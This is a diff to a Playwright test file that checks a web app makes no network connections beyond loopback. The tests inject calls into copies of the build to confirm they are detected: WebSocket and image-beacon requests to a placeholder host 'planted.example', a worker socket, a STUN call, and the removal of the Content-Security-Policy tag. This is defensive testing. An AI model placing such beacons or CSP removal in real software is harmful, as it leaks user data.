@@ -1,14 +1,18 @@
 // Egress: every journey is checked by its own device. Here the checking itself is checked, by a build that does connect.
 
-import { cpSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
-import { networkInterfaces, tmpdir } from 'node:os';
+import { readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { networkInterfaces } from 'node:os';
 import { join } from 'node:path';
 import { test as base, expect } from '@playwright/test';
 import { Device, DIST } from '../support/device.ts';
 import { test } from '../support/journey.ts';
+import { builtWith, letOut, SOCKET_IN_WORKER, SOCKET_TO, STUN_CALL, STUN_TO } from '../support/planted.ts';
 import { checkIn, control, installed, search, skipWelcome } from '../support/steps.ts';
+import { watch, whyNotWatched } from '../support/watched.ts';
 
 const PLANTED = 'planted.example';
+const JOURNEY = 'journey.spec.ts';
+const WATCHED_MS = 180_000;
 
 base('FR14 · the journeys run where there is no network but loopback', () => {
   const others = Object.keys(networkInterfaces()).filter((name) => name !== 'lo');
@@ -16,8 +20,36 @@ base('FR14 · the journeys run where there is no network but loopback', () => {
   expect(others).toEqual([]);
 });
 
+base('R5 W3 · seen from below the browser, a whole journey tries nothing beyond loopback', async () => {
+  base.setTimeout(WATCHED_MS);
+  const reason = whyNotWatched();
+  base.skip(reason !== undefined, reason);
+  const { passed, said, trace } = await watch(JOURNEY, DIST);
+  expect(passed, said).toBe(true);
+  expect(trace.events).toBeGreaterThan(0);
+  expect(trace.beyond).toEqual([]);
+});
+
+base(
+  'R5 W3 · a socket in a worker and a STUN call, planted, turn that journey red, and are seen from below',
+  async () => {
+    base.setTimeout(WATCHED_MS);
+    const reason = whyNotWatched();
+    base.skip(reason !== undefined, reason);
+    const folder = builtWith(DIST, `${SOCKET_IN_WORKER}\n${STUN_CALL}`);
+    letOut(folder);
+    const { passed, said, trace } = await watch(JOURNEY, folder, { withHeaders: false });
+    rmSync(folder, { recursive: true });
+    expect(passed).toBe(false);
+    expect(said).toContain(`${SOCKET_TO}:443`);
+    expect(said).toContain(`${STUN_TO}:3478`);
+    expect(trace.beyond).toContain(`${SOCKET_TO}:443`);
+    expect(trace.beyond).toContain(`${STUN_TO}:3478`);
+  },
+);
+
 base('R5 W3 · a socket planted in a worker is seen from outside the page', async () => {
-  const folder = builtWith(`globalThis.WorkerGlobalScope && new WebSocket('wss://${PLANTED}/');`);
+  const folder = builtWith(DIST, `globalThis.WorkerGlobalScope && new WebSocket('wss://${PLANTED}/');`);
   const device = await Device.begin({ folder, withHeaders: false });
   const page = await device.open();
   await skipWelcome(page);
@@ -30,7 +62,7 @@ base('R5 W3 · a socket planted in a worker is seen from outside the page', asyn
 });
 
 base('R5 W3 · a request planted in the page is seen', async () => {
-  const folder = builtWith(`globalThis.document && (new Image().src = 'https://${PLANTED}/?words');`);
+  const folder = builtWith(DIST, `globalThis.document && (new Image().src = 'https://${PLANTED}/?words');`);
   const file = join(folder, 'index.html');
   writeFileSync(file, readFileSync(file, 'utf8').replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, ''));
   const device = await Device.begin({ folder, withHeaders: false });
@@ -38,6 +70,14 @@ base('R5 W3 · a request planted in the page is seen', async () => {
   await skipWelcome(page);
   expect((await device.end()).join(' ')).toContain(PLANTED);
   rmSync(folder, { recursive: true });
+});
+
+test('R5 W3 · what no policy forbids is taken from the page before it is used', async ({ device }) => {
+  const page = await device.open();
+  await skipWelcome(page);
+  const names = ['RTCPeerConnection', 'webkitRTCPeerConnection', 'WebTransport'];
+  expect(await page.evaluate((all) => all.filter((name) => name in globalThis), names)).toEqual([]);
+  expect(await page.evaluate(() => 'sendBeacon' in navigator)).toBe(false);
 });
 
 test('W2 W15 · once the service worker is in charge, neither page nor worker can connect, whatever the host sends', async () => {
@@ -83,15 +123,3 @@ test('W2 W15 · once the service worker is in charge, neither page nor worker ca
   expect(Object.values(answers)).toEqual(Object.keys(answers).map(() => 'refused'));
   expect(await device.end()).toEqual([]);
 });
-
-/** A copy of the build with a line put before everything else in each of its scripts. */
-function builtWith(line: string): string {
-  const folder = mkdtempSync(join(tmpdir(), 'kept-planted-'));
-  cpSync(DIST, folder, { recursive: true });
-  const assets = join(folder, 'assets');
-  for (const name of readdirSync(assets).filter((file) => file.endsWith('.js'))) {
-    const file = join(assets, name);
-    writeFileSync(file, `${line}\n${readFileSync(file, 'utf8')}`);
-  }
-  return folder;
-}
